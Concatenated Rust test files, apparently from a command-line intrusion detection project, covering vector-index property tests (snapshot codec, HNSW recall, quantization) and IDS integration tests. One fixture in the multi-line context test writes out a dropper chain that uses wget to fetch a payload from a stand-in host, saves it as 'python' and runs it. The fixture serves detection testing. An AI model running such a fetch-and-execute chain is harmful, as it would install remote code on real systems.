        let mut restored = IndexSnapshot::from_bytes(&bytes).unwrap().restore();
        assert_eq!(restored.quantization(), Quantization::I8);
        restored.insert(&[1.0, 0.0, 0.0, 0.0]);
        assert_eq!(restored.quantization(), Quantization::I8);
        assert_eq!(restored.query(&[1.0, 0.0, 0.0, 0.0], 1)[0].id, 0);
    }

    #[test]
    fn corrupt_frames_error_instead_of_panicking() {
        let mut rng = StdRng::seed_from_u64(44);
        let data = randn(&mut rng, 20, 4, 1.0);
        for config in [IndexConfig::Exact, IndexConfig::hnsw()] {
            let idx = config.build(data.clone());
            let bytes = IndexSnapshot::capture(idx.as_ref()).unwrap().to_bytes();
            assert_eq!(
                IndexSnapshot::from_bytes(&bytes[..bytes.len() / 2]).unwrap_err(),
                PersistError::Truncated,
                "{}",
                config.name()
            );
            let mut wrong_magic = bytes.clone();
            wrong_magic[0] = b'X';
            assert_eq!(
                IndexSnapshot::from_bytes(&wrong_magic).unwrap_err(),
                PersistError::BadMagic
            );
            let mut wrong_version = bytes.clone();
            wrong_version[4] = 99;
            assert_eq!(
                IndexSnapshot::from_bytes(&wrong_version).unwrap_err(),
                PersistError::UnsupportedVersion(99)
            );
        }
    }
}
