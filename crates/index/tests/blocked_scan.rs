//! Property tests: the blocked batch scan is indistinguishable from
//! the per-row reference path.
//!
//! The tiled `query_batch` must return exactly what a loop of
//! single-query `query` calls returns — same ids, same similarities,
//! same tie order — for every format, every kernel, and every
//! relationship between the candidate count and the tile size
//! (including stores smaller than one tile and stores that end
//! mid-tile).

use index::{ExactIndex, Neighbor, Quantization, VectorIndex};
use linalg::kernels::I8Kernel;
use linalg::ops::row_norms;
use linalg::quant::SCAN_TILE_ROWS;
use linalg::Matrix;
use proptest::prelude::*;

/// Deterministic pseudo-random matrix (xorshift64*), values in ±2.
fn random_matrix(rows: usize, cols: usize, seed: u64) -> Matrix {
    let mut state = seed | 1;
    Matrix::from_fn(rows, cols, |_, _| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        let u = state.wrapping_mul(0x2545f4914f6cdd1d);
        ((u >> 40) as f32 / (1u64 << 24) as f32) * 4.0 - 2.0
    })
}

fn build(data: &Matrix, quant: Quantization) -> ExactIndex {
    match quant {
        Quantization::F32 => ExactIndex::build(data.clone()),
        q => ExactIndex::build_quantized(data.clone(), row_norms(data), q),
    }
}

fn per_row(idx: &ExactIndex, queries: &Matrix, k: usize) -> Vec<Vec<Neighbor>> {
    (0..queries.rows())
        .map(|q| idx.query(queries.row(q), k))
        .collect()
}

proptest! {
    /// Blocked batch == per-row loop for every format × kernel, with
    /// candidate counts chosen to land before, on, and after tile
    /// boundaries.
    #[test]
    fn blocked_batch_equals_per_row_reference(
        rows in 1usize..(SCAN_TILE_ROWS * 2 + 10),
        cols in 1usize..24,
        n_queries in 1usize..6,
        k in 1usize..8,
        seed in 0u64..u64::MAX,
    ) {
        let data = random_matrix(rows, cols, seed);
        let queries = random_matrix(n_queries, cols, seed ^ 0xabcdef);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let idx = build(&data, quant);
            let reference = per_row(&idx, &queries, k);
            for kernel in [I8Kernel::Scalar, I8Kernel::Swar, I8Kernel::Arch] {
                prop_assert_eq!(
                    &idx.query_batch_with_kernel(kernel, &queries, k),
                    &reference);
            }
        }
    }

    /// Tie determinism across tile boundaries: duplicated rows score
    /// identically, and the blocked scan must break those ties by
    /// ascending id exactly like the per-row path — even when the
    /// tied block straddles one or more tile edges.
    #[test]
    fn tile_boundaries_preserve_tie_order(
        copies in 2usize..5,
        offset in 0usize..SCAN_TILE_ROWS,
        cols in 2usize..16,
        seed in 0u64..u64::MAX,
    ) {
        // `offset` unique prefix rows push the duplicated block off
        // tile alignment; each distinct row then repeats `copies`
        // times in a row-major interleaving.
        let distinct = random_matrix(SCAN_TILE_ROWS, cols, seed);
        let mut data = random_matrix(offset, cols, seed ^ 0x5eed);
        for r in 0..distinct.rows() {
            for _ in 0..copies {
                data.push_row(distinct.row(r));
            }
        }
        let queries = random_matrix(3, cols, seed ^ 0x717e);
        let k = copies + 2;
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let idx = build(&data, quant);
            let reference = per_row(&idx, &queries, k);
            for neighbours in &reference {
                for pair in neighbours.windows(2) {
                    let tied = pair[0].similarity == pair[1].similarity;
                    prop_assert!(
                        !tied || pair[0].id < pair[1].id,
                        "per-row path broke a tie out of id order: {pair:?}"
                    );
                }
            }
            for kernel in [I8Kernel::Scalar, I8Kernel::Swar, I8Kernel::Arch] {
                prop_assert_eq!(
                    &idx.query_batch_with_kernel(kernel, &queries, k),
                    &reference);
            }
        }
    }
}
