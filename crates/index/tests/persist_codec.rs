//! Property tests for the `index::persist` codec: every backend's
//! snapshot round-trips bit-exactly, and *no* corruption of a valid
//! frame — truncation, flipped magic, bumped version, or arbitrary
//! byte damage — may panic. Corrupt input must surface as a typed
//! [`PersistError`], because a serving cold start reads these frames
//! from disk where partial writes and bit rot are real.

use index::persist::{ByteWriter, PersistError};
use index::{IndexConfig, IndexSnapshot, Quantization};
use linalg::rng::randn;
use linalg::Matrix;
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

/// The three persistable backend shapes under test.
fn config_for(tag: u8, shards: usize) -> IndexConfig {
    match tag % 3 {
        0 => IndexConfig::Exact,
        1 => IndexConfig::hnsw(),
        _ => IndexConfig::hnsw().with_shards(shards),
    }
}

proptest! {
    /// Round trip: decode(encode(snapshot)) answers every query
    /// bit-identically to the live index it captured.
    #[test]
    fn round_trip_is_bit_exact(
        seed in 0u64..500,
        n in 1usize..120,
        dim in 2usize..16,
        backend in 0u8..3,
        shards in 2usize..5,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let data = randn(&mut rng, n, dim, 1.0);
        let idx = config_for(backend, shards).build(data.clone());
        let snap = IndexSnapshot::capture(idx.as_ref()).expect("capturable backend");
        let bytes = snap.to_bytes();
        let restored = IndexSnapshot::from_bytes(&bytes)
            .expect("round trip decodes")
            .restore();
        prop_assert_eq!(restored.len(), idx.len());
        prop_assert_eq!(restored.dim(), idx.dim());
        for r in (0..n).step_by(1 + n / 8) {
            prop_assert_eq!(restored.query(data.row(r), 3), idx.query(data.row(r), 3));
        }
    }

    /// Truncating a valid frame at *any* length errors (almost always
    /// `Truncated`; never a panic, never a silently short decode).
    #[test]
    fn every_truncation_errors_without_panicking(
        seed in 0u64..200,
        n in 1usize..40,
        backend in 0u8..3,
        cut_fraction in 0.0f64..1.0,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let data = randn(&mut rng, n, 6, 1.0);
        let idx = config_for(backend, 3).build(data);
        let bytes = IndexSnapshot::capture(idx.as_ref()).unwrap().to_bytes();
        let cut = ((bytes.len() as f64) * cut_fraction) as usize;
        prop_assert!(cut < bytes.len());
        prop_assert!(IndexSnapshot::from_bytes(&bytes[..cut]).is_err());
    }

    /// Arbitrary single-byte damage must never panic: it decodes to a
    /// typed error, or — when the flipped byte is not load-bearing —
    /// to some snapshot, but the process survives either way.
    #[test]
    fn single_byte_damage_never_panics(
        seed in 0u64..200,
        n in 1usize..40,
        backend in 0u8..3,
        pos_fraction in 0.0f64..1.0,
        xor in 1u8..=255,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let data = randn(&mut rng, n, 6, 1.0);
        let idx = config_for(backend, 3).build(data);
        let mut bytes = IndexSnapshot::capture(idx.as_ref()).unwrap().to_bytes();
        let pos = ((bytes.len() as f64) * pos_fraction) as usize % bytes.len();
        bytes[pos] ^= xor;
        let _ = IndexSnapshot::from_bytes(&bytes); // must not panic
    }
}

#[test]
fn typed_errors_for_magic_version_and_tag() {
    let mut rng = StdRng::seed_from_u64(7);
    let data = randn(&mut rng, 12, 4, 1.0);
    for config in [
        IndexConfig::Exact,
        IndexConfig::hnsw(),
        IndexConfig::Exact.with_shards(3),
    ] {
        let idx = config.build(data.clone());
        let bytes = IndexSnapshot::capture(idx.as_ref()).unwrap().to_bytes();

        assert_eq!(
            IndexSnapshot::from_bytes(b"").unwrap_err(),
            PersistError::Truncated
        );
        let mut bad_magic = bytes.clone();
        bad_magic[0] = b'Z';
        assert_eq!(
            IndexSnapshot::from_bytes(&bad_magic).unwrap_err(),
            PersistError::BadMagic,
            "{}",
            config.name()
        );
        let mut bad_version = bytes.clone();
        bad_version[4] = 201;
        assert_eq!(
            IndexSnapshot::from_bytes(&bad_version).unwrap_err(),
            PersistError::UnsupportedVersion(201),
            "{}",
            config.name()
        );
        let mut bad_tag = bytes.clone();
        bad_tag[8] = 77; // first payload byte is the backend tag
        assert_eq!(
            IndexSnapshot::from_bytes(&bad_tag).unwrap_err(),
            PersistError::BadTag(77),
            "{}",
            config.name()
        );
    }
}

/// A pre-version-bump (V1) exact-index frame, byte for byte as the
/// original f32-only writer laid it out: magic, version 1, tag 0,
/// matrix (rows, cols, row-major f32s), length-prefixed norms. This is
/// the layout every snapshot on disk used before quantized payloads
/// existed — the fixture is hand-framed so the test cannot silently
/// follow a writer change.
fn v1_exact_fixture(data: &Matrix, norms: &[f32]) -> Vec<u8> {
    let mut w = ByteWriter::new();
    for b in b"CIDX" {
        w.put_u8(*b);
    }
    w.put_u32(1); // pre-bump version
    w.put_u8(0); // TAG_EXACT
    w.put_matrix(data);
    w.put_f32s(norms);
    w.into_bytes()
}

#[test]
fn pre_bump_v1_fixture_still_loads_after_the_version_bump() {
    // The version-negotiation satellite: bumping the frame version for
    // quantized payloads must leave old f32 snapshots readable.
    let mut rng = StdRng::seed_from_u64(21);
    let data = randn(&mut rng, 15, 5, 1.0);
    let norms = linalg::ops::row_norms(&data);
    let fixture = v1_exact_fixture(&data, &norms);

    let restored = IndexSnapshot::from_bytes(&fixture)
        .expect("pre-bump frame decodes")
        .restore();
    assert_eq!(restored.len(), 15);
    assert_eq!(restored.quantization(), Quantization::F32);
    let live = IndexConfig::Exact.build(data.clone());
    for r in 0..15 {
        assert_eq!(restored.query(data.row(r), 3), live.query(data.row(r), 3));
    }

    // And the writer still produces that exact byte stream for
    // all-f32 snapshots: the version bump changed nothing an old
    // reader would see.
    let snap = IndexSnapshot::capture(live.as_ref()).unwrap();
    assert_eq!(snap.to_bytes(), fixture, "f32 frames must stay at V1 bytes");
}

#[test]
fn quantized_frames_write_v2_and_future_versions_error_typed() {
    let mut rng = StdRng::seed_from_u64(22);
    let data = randn(&mut rng, 12, 5, 1.0);
    let quantized = IndexConfig::Exact
        .with_quant(Quantization::I8)
        .build(data.clone());
    let bytes = IndexSnapshot::capture(quantized.as_ref())
        .unwrap()
        .to_bytes();
    assert_eq!(
        u32::from_le_bytes(bytes[4..8].try_into().unwrap()),
        2,
        "quantized payloads must bump the frame version"
    );
    assert!(IndexSnapshot::from_bytes(&bytes).is_ok());

    // An unknown *future* version is a typed error, not a parse
    // attempt: a newer writer's frame must fail loudly and safely.
    let mut future = bytes.clone();
    future[4..8].copy_from_slice(&3u32.to_le_bytes());
    assert_eq!(
        IndexSnapshot::from_bytes(&future).unwrap_err(),
        PersistError::UnsupportedVersion(3)
    );
}

#[test]
fn sharded_manifest_rejects_a_dim_that_disagrees_with_its_shards() {
    // A corrupt manifest `dim` must fail decode, not decode fine and
    // panic at the restored index's first query-width assert.
    let mut rng = StdRng::seed_from_u64(10);
    let data = randn(&mut rng, 20, 4, 1.0);
    let idx = IndexConfig::Exact.with_shards(3).build(data);
    let snap = IndexSnapshot::capture(idx.as_ref()).unwrap();
    let IndexSnapshot::Sharded {
        params,
        quant,
        dim,
        shards,
        globals,
    } = snap
    else {
        panic!("sharded capture expected");
    };
    let corrupt = IndexSnapshot::Sharded {
        params,
        quant,
        dim: dim + 1,
        shards,
        globals,
    };
    assert!(matches!(
        IndexSnapshot::from_bytes(&corrupt.to_bytes()),
        Err(PersistError::Corrupt(_))
    ));
}

#[test]
fn sharded_manifest_rejects_inconsistent_id_maps() {
    // Hand-corrupt the id maps inside a valid sharded frame: swap two
    // global ids across shards so each map stays ascending but the
    // cover gains a duplicate and a hole elsewhere... simplest robust
    // check: duplicate an id by overwriting another. The reader must
    // reject rather than decode an index that would misattribute
    // candidates.
    let mut rng = StdRng::seed_from_u64(9);
    let data = randn(&mut rng, 20, 4, 1.0);
    let idx = IndexConfig::Exact.with_shards(3).build(data);
    let snap = IndexSnapshot::capture(idx.as_ref()).unwrap();
    let IndexSnapshot::Sharded {
        params,
        quant,
        dim,
        shards,
        mut globals,
    } = snap
    else {
        panic!("sharded capture expected");
    };
    // Duplicate global id 0 into another shard's map: each map stays
    // ascending, but the cover now has a duplicate (and a hole).
    let other = globals
        .iter()
        .position(|m| !m.is_empty() && m.first() != Some(&0))
        .expect("another shard is non-empty");
    globals[other][0] = 0;
    let corrupt = IndexSnapshot::Sharded {
        params,
        quant,
        dim,
        shards,
        globals,
    };
    let bytes = corrupt.to_bytes();
    assert!(matches!(
        IndexSnapshot::from_bytes(&bytes),
        Err(PersistError::Corrupt(_))
    ));
}
