//! Property test: approximate HNSW search keeps high recall against
//! the exact backend on random Gaussian embeddings.

use index::{ExactIndex, HnswIndex, HnswParams, VectorIndex};
use linalg::rng::randn;
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

proptest! {
    /// recall@k of HNSW vs exact stays ≥ 0.9 across candidate-set
    /// sizes, dimensionalities, and k — on *unstructured* Gaussian
    /// data, the hardest case for a navigable-small-world graph
    /// (production command-line embeddings cluster far more tightly).
    #[test]
    fn hnsw_recall_at_k_is_at_least_090(
        seed in 0u64..1_000,
        n in 50usize..400,
        dim in 4usize..24,
        k in 1usize..6,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let data = randn(&mut rng, n, dim, 1.0);
        let queries = randn(&mut rng, 12, dim, 1.0);
        let exact = ExactIndex::build(data.clone());
        let hnsw = HnswIndex::build(data, HnswParams::default());
        let mut found = 0usize;
        let mut wanted = 0usize;
        for r in 0..queries.rows() {
            let q = queries.row(r);
            let want = exact.query(q, k);
            let got = hnsw.query(q, k);
            prop_assert_eq!(got.len(), want.len());
            let got_ids: Vec<usize> = got.iter().map(|nb| nb.id).collect();
            wanted += want.len();
            found += want.iter().filter(|nb| got_ids.contains(&nb.id)).count();
        }
        let recall = found as f64 / wanted as f64;
        prop_assert!(
            recall >= 0.9,
            "recall@{} = {:.3} ({}/{}) at n={} dim={}",
            k, recall, found, wanted, n, dim
        );
    }
}
