//! Property tests for the serving-path index features: recall@k stays
//! ≥ 0.9 after interleaved build/insert sequences, and a snapshot
//! save → load round trip reproduces the graph node for node (with
//! zero construction passes on restore).

use index::{construction_passes, ExactIndex, HnswIndex, HnswParams, IndexSnapshot, VectorIndex};
use linalg::rng::randn;
use linalg::Matrix;
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

/// recall@k of `approx` against the exact scan over the same live
/// candidate set, averaged across `queries`.
fn recall_at_k(exact: &ExactIndex, approx: &dyn VectorIndex, queries: &Matrix, k: usize) -> f64 {
    let mut found = 0usize;
    let mut wanted = 0usize;
    for r in 0..queries.rows() {
        let q = queries.row(r);
        let want = exact.query(q, k);
        let got_ids: Vec<usize> = approx.query(q, k).iter().map(|nb| nb.id).collect();
        wanted += want.len();
        found += want.iter().filter(|nb| got_ids.contains(&nb.id)).count();
    }
    found as f64 / wanted as f64
}

proptest! {
    /// Building over a prefix and inserting the rest one line at a
    /// time (the live-supervision path) keeps recall@k ≥ 0.9 against
    /// an exact scan over the full set — the insert path must wire new
    /// nodes as navigably as construction does.
    #[test]
    fn recall_survives_interleaved_build_and_inserts(
        seed in 0u64..500,
        n in 60usize..300,
        dim in 4usize..20,
        k in 1usize..5,
        prefix_permille in 100usize..900,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let data = randn(&mut rng, n, dim, 1.0);
        let queries = randn(&mut rng, 10, dim, 1.0);
        let prefix = (n * prefix_permille / 1000).max(1);
        let mut hnsw = HnswIndex::build(data.row_block(0, prefix), HnswParams::default());
        for r in prefix..n {
            hnsw.insert(data.row(r));
        }
        prop_assert_eq!(hnsw.len(), n);
        let exact = ExactIndex::build(data);
        let recall = recall_at_k(&exact, &hnsw, &queries, k);
        prop_assert!(
            recall >= 0.9,
            "recall@{} = {:.3} after building {} + inserting {} (dim {})",
            k, recall, prefix, n - prefix, dim
        );
    }

    /// A snapshot save → load round trip is the identity: the restored
    /// graph equals the in-memory graph node for node, answers every
    /// query identically, keeps the same recall, and costs zero
    /// construction passes.
    #[test]
    fn snapshot_round_trip_is_the_identity_on_the_graph(
        seed in 0u64..500,
        n in 40usize..250,
        dim in 4usize..16,
        k in 1usize..5,
        inserts in 0usize..30,
    ) {
        let mut rng = StdRng::seed_from_u64(seed ^ 0xABCD);
        let data = randn(&mut rng, n, dim, 1.0);
        let extra = randn(&mut rng, inserts, dim, 1.0);
        let queries = randn(&mut rng, 8, dim, 1.0);
        // Exercise a realistic history: build, then some live inserts.
        let mut hnsw = HnswIndex::build(data.clone(), HnswParams::default());
        for r in 0..extra.rows() {
            hnsw.insert(extra.row(r));
        }

        let bytes = IndexSnapshot::capture(&hnsw)
            .expect("hnsw is serializable")
            .to_bytes();
        let passes = construction_passes();
        let restored = IndexSnapshot::from_bytes(&bytes)
            .expect("round trip decodes")
            .restore();
        // Restore must not run a construction pass.
        prop_assert_eq!(construction_passes(), passes);

        let restored_hnsw = restored
            .as_any()
            .downcast_ref::<HnswIndex>()
            .expect("restores as hnsw");
        // The serialized graph must equal the in-memory graph node for
        // node.
        prop_assert_eq!(restored_hnsw.links(), hnsw.links());
        for r in 0..queries.rows() {
            prop_assert_eq!(
                restored.query(queries.row(r), k),
                hnsw.query(queries.row(r), k)
            );
        }

        let mut full = data;
        for r in 0..extra.rows() {
            full.push_row(extra.row(r));
        }
        let exact = ExactIndex::build(full);
        let recall = recall_at_k(&exact, restored.as_ref(), &queries, k);
        prop_assert!(
            recall >= 0.9,
            "restored recall@{} = {:.3} at n={} (+{} inserts, dim {})",
            k, recall, n, inserts, dim
        );
    }
}
