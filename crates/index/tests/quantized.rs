//! Property tests for the quantized candidate-storage axis:
//!
//! * encode→decode error bounds — f16 within 1 ulp of f16, i8 within
//!   `scale/2` per element — on arbitrary in-range inputs;
//! * a [`ShardedIndex`] with quantized shards is **identical** to N
//!   independently-built quantized shards merged by hand (per-row
//!   scales make quantization row-local, so the partition cannot
//!   change any code);
//! * quantized round trips through the persistence codec are
//!   bit-exact and version-negotiated.

use index::{
    merge_shard_topk, shard_for_row, ExactIndex, IndexConfig, IndexSnapshot, Neighbor,
    Quantization, ShardedIndex, ShardedParams, VectorIndex,
};
use linalg::quant::{f16_to_f32, f32_to_f16, i8_encode_row};
use linalg::rng::randn;
use linalg::Matrix;
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

/// One f16 unit-in-the-last-place at magnitude `x` (subnormal floor
/// 2^-24).
fn f16_ulp(x: f32) -> f32 {
    let ax = x.abs();
    if ax < 2f32.powi(-14) {
        2f32.powi(-24)
    } else {
        2f32.powi(ax.log2().floor() as i32 - 10)
    }
}

proptest! {
    /// f16 encode→decode lands within 1 ulp of the input for every
    /// value inside f16 range (round-to-nearest-even guarantees ½ ulp;
    /// the bound leaves headroom for the ulp estimate at exponent
    /// boundaries).
    #[test]
    fn f16_round_trip_error_is_within_one_ulp(x in -60000.0f32..60000.0) {
        let decoded = f16_to_f32(f32_to_f16(x));
        let err = (x - decoded).abs();
        prop_assert!(
            err <= f16_ulp(x) * 1.000_001,
            "x={x} decoded={decoded} err={err}"
        );
    }

    /// i8 encode→decode error is bounded by half the row scale per
    /// element, and the scale itself is `max|x| / 127`.
    #[test]
    fn i8_round_trip_error_is_within_half_scale(
        row in prop::collection::vec(-100.0f32..100.0, 1..64),
    ) {
        let (codes, scale) = i8_encode_row(&row);
        let max_abs = row.iter().fold(0.0f32, |m, &x| m.max(x.abs()));
        prop_assert!((scale - max_abs / 127.0).abs() <= max_abs * 1e-6);
        for (&x, &q) in row.iter().zip(&codes) {
            let err = (x - q as f32 * scale).abs();
            prop_assert!(
                err <= scale / 2.0 + scale * 1e-5,
                "x={x} q={q} scale={scale} err={err}"
            );
        }
    }

    /// A sharded index with quantized shards answers exactly like N
    /// independent quantized shards built and merged by hand: same
    /// partition, same per-shard codes (row-local scales), same k-way
    /// merge order.
    #[test]
    fn sharded_i8_equals_manually_merged_i8_shards(
        seed in 0u64..300,
        n in 1usize..100,
        shards in 2usize..5,
        k in 1usize..6,
        quant_tag in 0u8..2,
    ) {
        let quant = if quant_tag == 0 { Quantization::I8 } else { Quantization::F16 };
        let mut rng = StdRng::seed_from_u64(seed);
        let dim = 8;
        let data = randn(&mut rng, n, dim, 1.0);
        let queries = randn(&mut rng, 5, dim, 1.0);

        let params = ShardedParams::exact(shards);
        let sharded = ShardedIndex::build_quantized(
            data.clone(),
            linalg::ops::row_norms(&data),
            params,
            quant,
        );

        // Hand-rolled reference: partition by the same content hash,
        // build each shard's quantized ExactIndex independently, query
        // every shard, map local→global ids, k-way merge.
        let mut rows_per_shard: Vec<Vec<usize>> = vec![Vec::new(); shards];
        for r in 0..n {
            rows_per_shard[shard_for_row(params.seed, shards, data.row(r))].push(r);
        }
        let manual: Vec<(ExactIndex, &[usize])> = rows_per_shard
            .iter()
            .map(|rows| {
                let mut sub = Matrix::zeros(0, dim);
                for &g in rows {
                    sub.push_row(data.row(g));
                }
                let norms = linalg::ops::row_norms(&sub);
                (
                    ExactIndex::build_quantized(sub, norms, quant),
                    rows.as_slice(),
                )
            })
            .collect();

        for qr in 0..queries.rows() {
            let q = queries.row(qr);
            let per_shard: Vec<Vec<Neighbor>> = manual
                .iter()
                .map(|(idx, map)| {
                    let mut out = idx.query(q, k);
                    for nb in &mut out {
                        nb.id = map[nb.id];
                    }
                    out
                })
                .collect();
            let lists: Vec<&[Neighbor]> = per_shard.iter().map(Vec::as_slice).collect();
            let want = merge_shard_topk(&lists, k);
            prop_assert_eq!(sharded.query(q, k), want);
        }
    }

    /// Quantized snapshots round-trip bit-exactly through the V2 frame
    /// for every backend shape.
    #[test]
    fn quantized_round_trip_is_bit_exact(
        seed in 0u64..200,
        n in 1usize..80,
        backend in 0u8..3,
        quant_tag in 0u8..2,
    ) {
        let quant = if quant_tag == 0 { Quantization::I8 } else { Quantization::F16 };
        let config = match backend {
            0 => IndexConfig::Exact,
            1 => IndexConfig::hnsw(),
            _ => IndexConfig::Exact.with_shards(3),
        }
        .with_quant(quant);
        let mut rng = StdRng::seed_from_u64(seed);
        let data = randn(&mut rng, n, 6, 1.0);
        let idx = config.build(data.clone());
        prop_assert_eq!(idx.quantization(), quant);
        let bytes = IndexSnapshot::capture(idx.as_ref()).expect("capturable").to_bytes();
        let restored = IndexSnapshot::from_bytes(&bytes).expect("decodes").restore();
        prop_assert_eq!(restored.quantization(), quant);
        for r in (0..n).step_by(1 + n / 6) {
            prop_assert_eq!(restored.query(data.row(r), 3), idx.query(data.row(r), 3));
        }
    }
}

#[test]
fn quantized_inserts_continue_identically_after_restore() {
    // save → load → insert ≡ never-saved → insert, in every format
    // (the restored quantized storage and RNG replay line up).
    let mut rng = StdRng::seed_from_u64(8);
    let data = randn(&mut rng, 60, 6, 1.0);
    let extra = randn(&mut rng, 8, 6, 1.0);
    for quant in [Quantization::F16, Quantization::I8] {
        for config in [
            IndexConfig::Exact.with_quant(quant),
            IndexConfig::hnsw().with_quant(quant),
            IndexConfig::hnsw().with_quant(quant).with_shards(3),
        ] {
            let mut live = config.build(data.clone());
            let bytes = IndexSnapshot::capture(live.as_ref()).unwrap().to_bytes();
            let mut restored = IndexSnapshot::from_bytes(&bytes).unwrap().restore();
            for r in 0..extra.rows() {
                assert_eq!(
                    live.insert(extra.row(r)),
                    restored.insert(extra.row(r)),
                    "{}",
                    config.name()
                );
            }
            for r in 0..extra.rows() {
                assert_eq!(
                    live.query(extra.row(r), 3),
                    restored.query(extra.row(r), 3),
                    "{}",
                    config.name()
                );
            }
        }
    }
}
