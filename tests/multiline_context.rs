//! Integration test for the multi-line method (paper Section IV-C):
//! context windows flow from the corpus' sessions through tokenization
//! into the classifier, and context changes the verdict on the dropper.

use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use cmdline_ids::tuning::{build_windows, MultiLineClassifier, TuneConfig};
use corpus::{GroundTruth, LogRecord};
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn record(user: u32, t: u64, line: &str) -> LogRecord {
    LogRecord {
        user,
        timestamp: t,
        line: line.to_string(),
        truth: GroundTruth::Benign,
    }
}

#[test]
fn windows_respect_users_and_gaps_through_the_real_generator() {
    let mut rng = StdRng::seed_from_u64(31);
    let data = corpus::DatasetBuilder::new()
        .train_size(2_000)
        .test_size(500)
        .build(&mut rng);
    let windows = build_windows(&data.test, 3, 600);
    assert_eq!(windows.len(), data.test.len());
    for w in &windows {
        assert!(!w.lines.is_empty() && w.lines.len() <= 3);
        let target = &data.test[w.target_index];
        assert_eq!(w.lines.last().unwrap(), &target.line);
        // All window lines belong to the target's user.
        for line in &w.lines {
            assert!(
                data.test
                    .iter()
                    .any(|r| r.user == target.user && &r.line == line),
                "window line from another user"
            );
        }
    }
}

#[test]
fn dropper_context_raises_score_of_bare_python() {
    let mut rng = StdRng::seed_from_u64(32);
    let mut config = PipelineConfig::fast();
    config.train_size = 2_500;
    config.test_size = 300;
    config.attack_prob = 0.3;
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);

    let ids = RuleIds::with_default_rules();
    let labels: Vec<bool> = dataset
        .train
        .iter()
        .map(|r| ids.is_alert(&r.line))
        .collect();
    // The multi-line tuner labels windows by their target line; enrich
    // supervision with ground truth for the dropper windows so that the
    // contextual signal exists in training (the paper's supervision is
    // whatever the IDS flags, which at full scale includes such chains).
    let labels: Vec<bool> = labels
        .iter()
        .zip(&dataset.train)
        .map(|(&l, r)| l || r.truth.is_malicious())
        .collect();

    let classifier = MultiLineClassifier::fit(
        &pipeline,
        &dataset.train,
        &labels,
        3,
        600,
        &TuneConfig::scaled(),
        &mut rng,
    );
    assert_eq!(classifier.width(), 3);

    // A bare `python` with benign context…
    let benign_session = vec![
        record(1, 100, "cd /home/dev/project"),
        record(1, 130, "ls -la"),
        record(1, 160, "python"),
    ];
    // …versus the dropper context from Section IV-C.
    let dropper_session = vec![
        record(2, 100, "cd /tmp"),
        record(2, 130, "wget -c http://update-cdn.xyz/payload -o python"),
        record(2, 160, "python"),
    ];
    let benign_scores = classifier.score_records(&pipeline, &benign_session);
    let dropper_scores = classifier.score_records(&pipeline, &dropper_session);
    assert!(
        dropper_scores[2] > benign_scores[2],
        "dropper python {} vs benign python {}",
        dropper_scores[2],
        benign_scores[2]
    );
}
