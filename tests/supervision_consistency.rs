//! Integration invariants between the trace generator and the rule IDS:
//! the in-box/out-of-box structure the whole evaluation rests on.

use corpus::{AttackFamily, AttackGenerator, DatasetBuilder, GroundTruth, Variant};
use ids_rules::{NoiseConfig, RuleIds};
use rand::rngs::StdRng;
use rand::SeedableRng;

#[test]
fn dataset_in_box_attacks_alert_and_out_of_box_do_not() {
    let mut rng = StdRng::seed_from_u64(5);
    let data = DatasetBuilder::new()
        .train_size(4_000)
        .test_size(1_500)
        .attack_prob(0.2)
        .build(&mut rng);
    let ids = RuleIds::noiseless();

    let mut in_box_checked = 0;
    let mut out_checked = 0;
    for r in data.train.iter().chain(&data.test) {
        match r.truth {
            GroundTruth::Malicious {
                variant: Variant::InBox,
                family,
            } => {
                // Multi-line attacks alert on at least one line; most
                // in-box families alert on the very line.
                if ids.is_alert(&r.line) {
                    in_box_checked += 1;
                } else {
                    // The only acceptable silent in-box lines are parts
                    // of multi-line samples (none in-box today) — fail.
                    panic!("in-box {family} line not alerted: {}", r.line);
                }
            }
            GroundTruth::Malicious {
                variant: Variant::OutOfBox,
                family,
            } => {
                assert!(
                    !ids.is_alert(&r.line),
                    "out-of-box {family} line alerted: {}",
                    r.line
                );
                out_checked += 1;
            }
            _ => {}
        }
    }
    assert!(
        in_box_checked > 20,
        "too few in-box lines: {in_box_checked}"
    );
    assert!(out_checked > 20, "too few out-of-box lines: {out_checked}");
}

#[test]
fn benign_traffic_stays_silent_without_noise() {
    let mut rng = StdRng::seed_from_u64(6);
    let data = DatasetBuilder::new()
        .train_size(3_000)
        .test_size(500)
        .attack_prob(0.0)
        .build(&mut rng);
    let ids = RuleIds::noiseless();
    for r in &data.train {
        assert!(!ids.is_alert(&r.line), "benign alerted: {}", r.line);
    }
}

#[test]
fn noise_false_negatives_only_remove_alerts() {
    let mut rng = StdRng::seed_from_u64(7);
    let generator = AttackGenerator::new();
    let noiseless = RuleIds::noiseless();
    let noisy = RuleIds::with_default_rules().with_noise(NoiseConfig {
        false_negative_rate: 0.3,
        false_positive_rate: 0.0,
        seed: 1,
    });
    let mut dropped = 0;
    let mut total = 0;
    for _ in 0..300 {
        let s = generator.generate_random(&mut rng, 0.0);
        for line in &s.lines {
            if noiseless.is_alert(line) {
                total += 1;
                if !noisy.is_alert(line) {
                    dropped += 1;
                }
            } else {
                // Noise must never *add* alerts when fp rate is 0.
                assert!(!noisy.is_alert(line));
            }
        }
    }
    assert!(total > 200);
    let rate = dropped as f64 / total as f64;
    assert!((0.15..0.45).contains(&rate), "drop rate {rate}");
}

#[test]
fn every_family_appears_in_large_draws() {
    let mut rng = StdRng::seed_from_u64(8);
    let data = DatasetBuilder::new()
        .train_size(12_000)
        .test_size(100)
        .attack_prob(0.3)
        .build(&mut rng);
    for family in AttackFamily::ALL {
        let count = data
            .train
            .iter()
            .filter(|r| matches!(r.truth, GroundTruth::Malicious { family: f, .. } if f == family))
